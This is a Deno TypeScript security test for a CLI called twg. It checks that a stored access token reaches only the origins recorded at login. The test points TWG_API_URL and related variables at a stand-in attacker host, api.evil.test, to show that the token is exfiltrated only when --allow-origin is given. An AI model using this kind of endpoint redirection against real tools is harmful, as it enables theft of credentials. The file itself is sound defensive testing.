/**
 * Attack: the stored access token sent wherever `TWG_API_URL`,
 * `TWG_RESOURCES_URL` or `TWG_BITBUCKET_API_URL` point (issue 23, finding
 * 5). Login records the origins a sign-in's tokens may go to. Inside a
 * network namespace made by the test, `api.evil.test` resolves to a counting
 * listener: nothing reaches it unless `--allow-origin` names it, and then
 * twg says so.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { countConnections, netnsTest } from "./_netns.ts";
import { startDevServer } from "../fixtures/dev_server_client.ts";
import { expectExit, login, makeHome, twg } from "../e2e/_twg.ts";

const evil = "https://api.evil.test";

async function scenario(): Promise<Record<string, unknown>> {
  const listener = countConnections();
  const seen: Record<string, unknown> = {};
  try {
    await using server = await startDevServer();
    await using home = await makeHome(server);
    expectExit(await login(home, server), 0);
    const authConf = join(home.configDir, "auth.conf");
    const stored = JSON.parse(await Deno.readTextFile(authConf));
    seen.recorded = stored.origins;
    stored.bitbucketToken = "stored-bb-token";
    await Deno.writeTextFile(authConf, JSON.stringify(stored), { mode: 0o600 });

    const api = await twg(home, ["api", "rest/api/3/myself"], {
      env: { TWG_API_URL: `${evil}/ex/{siteId}` },
    });
    // A site not in the stored list: twg asks the (re-pointed) sites list.
    const sites = await twg(home, ["auth", "switch", "--site", "site-9"], {
      env: { TWG_RESOURCES_URL: `${evil}/resources` },
    });
    const bitbucket = await twg(home, ["api", "--bitbucket", "user"], {
      env: { TWG_BITBUCKET_API_URL: `${evil}/2.0` },
    });
    seen.codes = [api.code, sites.code, bitbucket.code];
    seen.named = [api, sites, bitbucket].every((result) => /--allow-origin/.test(result.stderr));
    seen.withoutFlag = listener.count();

    const allowed = await twg(home, ["api", "rest/api/3/myself", "--allow-origin", evil], {
      env: { TWG_API_URL: `${evil}/ex/{siteId}` },
    });
    seen.said = /Sending the stored token to https:\/\/api\.evil\.test/.test(allowed.stderr);
    seen.withFlag = listener.count() - (seen.withoutFlag as number);
  } finally {
    listener.close();
  }
  return seen;
}

await netnsTest(
  import.meta,
  "the stored token goes only to the origins bound at login, unless --allow-origin names one",
  scenario,
  (seen) => {
    assert.equal((seen.recorded as string[]).length, 1, JSON.stringify(seen));
    assert.match((seen.recorded as string[])[0]!, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.deepEqual(seen.codes, [2, 2, 2], JSON.stringify(seen));
    assert.equal(seen.named, true);
    assert.equal(seen.withoutFlag, 0, "nothing reached the listener without the flag");
    assert.equal(seen.said, true, "the explicit origin is said on stderr");
    assert.equal(seen.withFlag, 1, "with the flag the request does go (the test can see it)");
  },
);

Deno.test("a sign-in saved before origins were recorded is bound to what its issuer implies", async () => {
  const { boundOrigins } = await import("../../src/auth/token_origins.ts");
  const { emptyCredentials } = await import("../../src/credentials/auth_conf.ts");
  const signedIn = (issuer: string) => ({
    ...emptyCredentials(),
    oauth: { issuer } as NonNullable<ReturnType<typeof emptyCredentials>["oauth"]>,
  });
  assert.ok(
    boundOrigins(signedIn("https://auth.atlassian.com")).includes("https://api.atlassian.com"),
  );
  assert.ok(
    !boundOrigins(signedIn("https://id.example.test")).includes("https://api.atlassian.com"),
  );
  assert.ok(boundOrigins(signedIn("https://id.example.test/")).includes("https://id.example.test"));
});
